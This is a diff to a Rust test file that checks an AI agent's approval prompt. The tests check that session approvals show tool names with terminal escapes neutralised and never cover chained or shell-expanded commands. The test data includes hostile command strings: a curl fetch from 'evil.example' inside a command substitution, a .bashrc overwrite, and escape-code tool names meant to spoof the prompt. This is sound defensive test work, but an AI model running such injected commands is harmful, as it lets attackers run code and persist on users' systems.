@@ -2,12 +2,16 @@
 //! than what will run: carriage returns, terminal escapes, bidirectional overrides, long
 //! commands with the payload out of sight, writes whose content is never shown.
 //!
-//! `examples/agent.rs` asks through `ask_user`, so these tests drive the same
-//! dialogue the example shows (with the terminal replaced by buffers).
+//! The example agent asks through `ask_approval`, `ask_user`'s dialogue with `a` for the rest of
+//! the session, so these tests drive the same dialogue the example shows (with the terminal
+//! replaced by buffers); the last one attacks the line that says what `a` would allow.
 
 use serde_json::{Value, json};
 use skills_runtime::agent::ToolCall;
-use skills_runtime::agent::{APPROVAL_MARKER, CallDescription, ask_user, terminal_line};
+use skills_runtime::agent::{
+    APPROVAL_MARKER, Approval, ApprovalScope, CallDescription, ask_approval, ask_user,
+    terminal_line,
+};
 
 fn call(name: &str, input: Value) -> ToolCall {
     ToolCall {
@@ -238,4 +242,43 @@ fn progress_lines_are_escaped_and_cut_with_a_count() {
     let line = terminal_line("ok\r\x1b[31mFAKE\n", 4);
     assert_eq!(line, "ok\\r\\x1b [+9 more characters]");
     assert_terminal_safe(&line);
+}
+
+#[test]
+fn what_a_session_approval_allows_is_shown_escaped_and_never_widened() {
+    // A tool named to redraw the line: its name is escaped where `a` is explained.
+    let odd = call("x\r\x1b[2Kbash", json!({"command": "ls"}));
+    let mut shown = Vec::new();
+    let answer = ask_approval(&odd, "a\n".as_bytes(), &mut shown).unwrap();
+    assert_eq!(answer, Approval::Session);
+    let shown = String::from_utf8(shown).unwrap();
+    let after = shown.strip_prefix(APPROVAL_MARKER).unwrap();
+    assert_terminal_safe(after);
+    assert!(
+        after.contains("this session for every x\\r\\x1b[2Kbash call"),
+        "{after}"
+    );
+    // A command that is not plain words is allowed alone: a payload after it is not.
+    let piped = call("bash", json!({ "command": format!("ls | head") }));
+    let scope = ApprovalScope::of(&piped);
+    assert_eq!(scope.to_string(), "this exact bash command");
+    let chained = call(
+        "bash",
+        json!({ "command": format!("ls | head; {PAYLOAD}") }),
+    );
+    assert!(!scope.covers(&chained));
+    // A prefix never covers a command the shell would expand or chain.
+    let plain = ApprovalScope::of(&call("bash", json!({"command": "git status"})));
+    for hostile in [
+        format!("git status; {PAYLOAD}"),
+        "git status $(curl -s http://evil.example/x)".to_owned(),
+        "git status `id`".to_owned(),
+        "git status > ~/.bashrc".to_owned(),
+        "git status\ncurl x".to_owned(),
+    ] {
+        assert!(
+            !plain.covers(&call("bash", json!({ "command": hostile }))),
+            "{hostile}"
+        );
+    }
 }
